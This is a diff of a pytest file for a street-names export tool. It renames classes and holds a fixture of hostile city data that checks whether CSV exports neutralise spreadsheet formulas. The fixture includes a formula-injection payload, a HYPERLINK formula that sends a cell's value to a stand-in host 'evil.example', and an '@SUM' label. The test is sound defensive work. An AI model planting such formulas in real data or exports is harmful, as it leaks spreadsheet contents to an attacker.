@@ -8,8 +8,9 @@ import json
 import pytest
 from click.testing import CliRunner
 
-from app.domain import HIGH, LOW, MAN, UNKNOWN, WOMAN, Area, Decision, Entity, Street
-from app.exports import COLUMNS, CityNotFound, csv_cell, write_export
+from app.domain import HIGH, LOW, MAN, UNKNOWN, WOMAN, Area, Decision, Namesake, Street
+from app.exports import COLUMNS, csv_cell, write_export
+from app.store.records import AreaNotFound
 from app.store.records import find_or_create_area, save_run
 from tests.sample_city import ROWS, XSS_NAME
 
@@ -21,10 +22,10 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 def store_hostile_city(store) -> str:
     """A city whose data tries spreadsheet formulas, plus accents and an ancient namesake."""
     area = find_or_create_area(store, HOSTILE)
-    entities = {
-        "Q1": Entity(qid="Q1", labels={"es": "@SUM(1+1)"}, gender="woman", gender_labels=["female"],
+    namesakes = {
+        "Q1": Namesake(qid="Q1", labels={"es": "@SUM(1+1)"}, gender="woman", gender_labels=["female"],
                      birth_year=-63, death_year=14, sitelinks=5, articles={"es": "https://es.wikipedia.org/wiki/X"}),
-        "Q2": Entity(qid="Q2", labels={"es": "José Ñúñez"}, gender="man", gender_labels=["male"], birth_year=1900),
+        "Q2": Namesake(qid="Q2", labels={"es": "José Ñúñez"}, gender="man", gender_labels=["male"], birth_year=1900),
     }
     rows = [
         (1, FORMULA, Decision(UNKNOWN, None, LOW, [])),
@@ -39,7 +40,7 @@ def store_hostile_city(store) -> str:
         streets.append(Street(key=f"w{way}", name=name, osm_ids=[f"way/{way}"],
                               lines=[[(-56.1, -34.9), (-56.1 + way * 1e-3, -34.9)]], length_m=50.0 * way))
         decisions[f"w{way}"] = decision
-    save_run(store, area.id, streets=streets, readings={}, decisions=decisions, entities=entities, conflicts={},
+    save_run(store, area.id, streets=streets, readings={}, decisions=decisions, namesakes=namesakes, conflicts={},
              source="overpass")
     return HOSTILE.slug
 
@@ -126,7 +127,7 @@ def test_write_export_streams_and_refuses_unknown_cities(store, sample_city):
     out = io.StringIO(newline="")
     write_export(store, sample_city, "csv", out)
     assert out.getvalue().count("\r\n") == len(ROWS) + 1
-    with pytest.raises(CityNotFound):
+    with pytest.raises(AreaNotFound):
         write_export(store, "nowhere-1", "csv", io.StringIO())
 
 
